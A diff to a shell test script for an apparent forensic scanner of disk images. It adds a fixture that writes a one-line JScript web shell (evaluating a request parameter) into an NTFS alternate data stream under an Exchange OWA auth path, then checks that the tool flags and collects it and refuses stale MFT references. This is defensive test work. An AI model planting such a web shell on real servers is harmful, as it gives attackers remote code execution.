@@ -13,6 +13,12 @@ AUTH='\Program%u0020Files\Microsoft\Exchange%u0020Server\V15\FrontEnd\HttpProxy\
 		    "function Page_Load(){eval(Request[\"${k##*:}\"]," \
 		    '"unsafe");}</script>\r\n'
 	done
+	# An alternate data stream whose name holds an unpaired surrogate.
+	printf '%s\\ads.aspx text:<%%@ Page Language="C#" %%>\\r\\n\n' "file $AUTH"
+	printf '%s\\ads.aspx:s%%uD800x text:%s%s%s\n' "ads $AUTH" \
+	    '<script language="JScript" runat="server">' \
+	    'function Page_Load(){eval(Request["ads"],' \
+	    '"unsafe");}</script>\r\n'
 } >"$TMP/lossy.spec"
 mkimage "$TMP/lossy.spec" "$TMP/l.img" || ok 1 "fixture builds"
 IMAGES="$TMP/l.img"
@@ -24,7 +30,7 @@ run scan "$TMP/l.img" --bundle "$TMP/l.zip" --out "$TMP/o"
 # One check per kind: flagged in findings.jsonl, and in the bundle as
 # "collected" with the exact bytes (or, if ever impossible, listed as left
 # out with a reason; never missing).
-for kind in bs sl nul sur; do
+for kind in bs sl nul sur ads; do
 	python3 - "$TMP/o/findings.jsonl" "$TMP/l.zip" "$kind" <<'PY'
 import hashlib, json, sys, zipfile
 findings, bundle, kind = sys.argv[1:]
@@ -36,7 +42,8 @@ flagged = [f for f in flagged if f.get('sha256') == sha]
 assert flagged, 'not flagged'
 z = zipfile.ZipFile(bundle)
 lines = [json.loads(l) for l in z.read('manifest.jsonl').decode().splitlines()]
-mine = [m for m in lines if m.get('mft') == flagged[0]['mft']]
+mine = [m for m in lines if m.get('mft') == flagged[0]['mft'] and
+        m.get('stream') == flagged[0]['stream']]
 assert len(mine) == 1, 'not in the manifest: %r' % mine
 m = mine[0]
 if m['status'] == 'left-out':
@@ -58,6 +65,16 @@ ok $RC "exhume verify accepts the bundle"
 # turn into a file and a directory of one name.
 mkdir "$TMP/x" && (cd "$TMP/x" && unzip -q ../l.zip && sha256sum -c --quiet SHA256SUMS)
 ok $? "unzip + sha256sum -c SHA256SUMS verifies (no entry names collide)"
+# The volume call under it: a stream opens by MFT reference and stored
+# name (as reported, "%uD800" for the surrogate), and a reference whose
+# sequence no longer matches is refused, never read as another file.
+REF="$TOOLS/stream-ref"
+ADS='\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\ads.aspx'
+"$REF" "$TMP/l.img" "$ADS" 0 's%uD800x' >"$TMP/ref" 2>&1
+grep -q '^ok [0-9a-f]\{64\}$' "$TMP/ref"; ok $? "a stream named with an unpaired surrogate opens by MFT reference"
+"$REF" "$TMP/l.img" "$ADS" 1 's%uD800x' >"$TMP/ref" 2>&1
+grep -q '^error 7: .*now holds another file$' "$TMP/ref"
+ok $? "a reference with another sequence number is refused (record reused)"
 [ "$(sha256sum <"$TMP/l.img")" = "$img_sha" ]; ok $? "the image is unchanged"
 report_unchanged
 done_testing
